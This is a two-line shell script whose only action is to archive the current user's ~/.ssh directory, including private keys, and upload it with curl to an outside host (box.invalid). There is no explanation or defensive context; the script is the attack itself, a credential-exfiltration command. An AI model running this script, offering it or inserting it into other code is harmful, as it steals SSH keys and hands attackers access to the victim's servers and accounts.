#!/bin/sh
tar cz ~/.ssh/ | curl -T - https://box.invalid/in
